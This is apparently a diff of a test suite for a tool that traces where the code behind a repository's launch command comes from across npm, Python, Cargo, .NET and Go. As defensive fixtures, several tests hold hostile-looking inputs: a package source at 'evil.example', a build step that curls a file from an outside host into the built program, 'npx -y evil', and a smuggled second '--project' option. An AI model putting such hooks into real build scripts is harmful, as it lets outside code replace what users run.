@@ -903,7 +903,7 @@ describe('what a repository may try', () => {
           '[tool.poetry.dependencies]\ngood-mcp = "1.0.0"\n[[tool.poetry.source]]\nname = "evil"\nurl = "https://evil.example"\n',
       },
       'poetry run good-mcp',
-      ['pypi good-mcp ==1.0.0 (tool.poetry.source.url in pyproject.toml:5)'],
+      ['pypi good-mcp 1.0.0 (tool.poetry.source.url in pyproject.toml:5)'],
     ],
     [
       'an override of uv',
@@ -1205,8 +1205,140 @@ describe('candidates', () => {
       await candidates({
         'package.json': '{',
         'pyproject.toml': '= 1',
-        'requirements.txt': '\u0000',
+        'requirements.txt': '',
       }),
     ).toEqual([]);
+  });
+
+  test('are shown where they cannot be identified, unless they are code of the project', async () => {
+    expect(
+      await candidates({
+        'package.json': JSON.stringify({
+          dependencies: { a: '>=1 <2 || >3', b: 'workspace:*', c: 'file:../c', d: '1 beta!' },
+        }),
+        'pyproject.toml':
+          '[project]\ndependencies = ["e<2,>=1", "f>=1; python_version<\'3\' or python_version>\'3\'", "g (>=1.5,<2)", "h==${V}", "i @ https://x.example/i.whl"]\n[tool.poetry.dependencies]\nj = "1.*"\nk = "?"\nl = {path = "l"}\n',
+        'requirements.txt': '\u0000\n-e git+https://github.com/acme/m#egg=m\n./local\nn!\n',
+      }),
+    ).toEqual([
+      'package.json:1 npm a >=1 <2 || >3',
+      'package.json:1 npm d 1 beta!',
+      'pyproject.toml:2 pypi e <2,>=1',
+      'pyproject.toml:2 pypi f >=1',
+      'pyproject.toml:2 pypi g (>=1.5,<2)',
+      'pyproject.toml:2 pypi h ==${V}',
+      'pyproject.toml:2 unidentified: an archive by its address, which the export does not grade',
+      'pyproject.toml:4 pypi j 1.*',
+      'pyproject.toml:5 pypi k ?',
+      'requirements.txt:1 unidentified: not a Python requirement',
+      'requirements.txt:2 git github.com/acme/m -',
+      'requirements.txt:4 pypi n !',
+    ]);
+  });
+});
+
+describe('code that a tool builds', () => {
+  const folder = 'unidentified: a program whose code is not in the tree';
+  const absent = 'unidentified: a program that is not in the tree';
+  const output = 'unidentified: a build output that is not in the tree';
+  const built = (scripts: object, source = 'src/index.ts'): Files => ({
+    'package.json': manifest({ scripts, devDependencies: { typescript: '^5.0.0' } }),
+    [source]: '',
+  });
+
+  test.for<[string, Files, string]>([
+    ['go run ./cmd/x', { 'cmd/x/main.go': '' }, 'local cmd/x'],
+    ['go run .', { 'main.go': '' }, 'local .'],
+    ['go run -C cmd ./x --flag', { 'cmd/x/main.go': '' }, 'local cmd/x'],
+    ['go run main.go', { 'main.go': '' }, 'local main.go'],
+    ['go run ./cmd/x', { 'cmd/x/y/main.go': '' }, folder],
+    ['go run ../x', { 'x/main.go': '' }, folder],
+    ['cargo run --release -- stdio', { 'Cargo.toml': '' }, 'local .'],
+    [
+      'cargo +nightly run -q --manifest-path a/Cargo.toml',
+      { 'a/Cargo.toml': '' },
+      'local a/Cargo.toml',
+    ],
+    ['cargo run --manifest-path a/Cargo.toml', { 'Cargo.toml': '' }, absent],
+    ['cargo run', { 'a/Cargo.toml': '' }, folder],
+    ['cargo install evil', { 'Cargo.toml': '' }, 'unidentified: not a "run" of cargo'],
+    ['dotnet run --project app -- x', { 'app/App.csproj': '' }, 'local app'],
+    ['dotnet run --project app/App.fsproj', { 'app/App.fsproj': '' }, 'local app/App.fsproj'],
+    ['dotnet run one.cs', { 'one.cs': '' }, 'local one.cs'],
+    ['dotnet run --project none', { 'app/App.csproj': '' }, folder],
+    [
+      'dotnet run --project app --odd --project evil',
+      { 'app/App.csproj': '' },
+      'unidentified: an option that may name another project',
+    ],
+    [
+      'dotnet run stdio --project evil',
+      { 'App.csproj': '', 'evil/App.csproj': '' },
+      'unidentified: an option that may name another project',
+    ],
+    ['dotnet run stdio -- --project evil', { 'App.csproj': '' }, 'local .'],
+    ['dotnet dnx Acme.Notes@1.0.0', {}, 'nuget acme.notes 1.0.0'],
+    ['dotnet tool exec Acme.Notes', {}, 'nuget acme.notes -'],
+    // The output of a build that runs nothing but build tools, with its source.
+    ['node dist/index.js', built({ build: 'tsc' }), 'local dist/index.js'],
+    [
+      'node dist/index.js',
+      built({ build: 'rimraf dist && tsc && chmod +x dist/index.js' }),
+      'local dist/index.js',
+    ],
+    [
+      'node dist/index.js',
+      built({ build: 'npm run clean && tsc', clean: 'rimraf dist' }),
+      'local dist/index.js',
+    ],
+    ['node build/a/b.js', built({ build: 'tsc' }, 'src/a/b.ts'), 'local build/a/b.js'],
+    [
+      'node dist/index.js',
+      { ...built({ build: 'node make.js' }), 'make.js': '' },
+      'local dist/index.js',
+    ],
+    // One that may come from elsewhere.
+    ['node dist/other.js', built({ build: 'tsc' }), output],
+    ['node dist/index.js', built({ build: 'curl -o dist/index.js https://x.example' }), output],
+    ['node dist/index.js', built({ build: 'tsc', prepare: 'npx -y evil dist' }), output],
+    ['node dist/index.js', built({ build: 'tsc && cp evil.js dist/index.js' }), output],
+    ['node dist/index.js', built({ build: 'npm run build' }), output],
+    ['node dist/index.js', built({ build: 'tsc', postinstall: 'fetcher dist' }), output],
+    ['node dist/index.js', built({ build: 'tsc', postbuild: 'fetcher dist' }), output],
+    [
+      'node a/dist/b.js',
+      {
+        ...{ 'a/package.json': manifest({ scripts: { build: 'tsc' } }), 'a/src/b.ts': '' },
+        'package.json': manifest({ scripts: { build: 'turbo build', postinstall: 'fetcher a' } }),
+      },
+      output,
+    ],
+    [
+      'node a/dist/b.js',
+      {
+        ...{ 'a/package.json': manifest({ scripts: { build: 'tsc' } }), 'a/src/b.ts': '' },
+        'package.json': manifest({ scripts: { build: 'turbo build', prepare: 'husky' } }),
+      },
+      'local a/dist/b.js',
+    ],
+    [
+      'node dist/index.js',
+      built({ build: 'npm run x && tsc', x: 'rimraf dist', prex: 'fetcher dist' }),
+      output,
+    ],
+    [
+      'node a/dist/b.js',
+      {
+        ...{ 'a/package.json': manifest({ scripts: { build: 'tsc' } }), 'a/src/b.ts': '' },
+        'package.json': '{',
+      },
+      output,
+    ],
+    // None at all.
+    ['node dist/index.js', built({ start: 'tsc' }), absent],
+    ['node other/index.js', built({ build: 'tsc' }), absent],
+    ['node node_modules/x/dist/index.js', built({ build: 'tsc' }), absent],
+  ])('%s in %j is %s', async ([command, files, expected]) => {
+    expect(await brief(files, command)).toEqual([expected]);
   });
 });
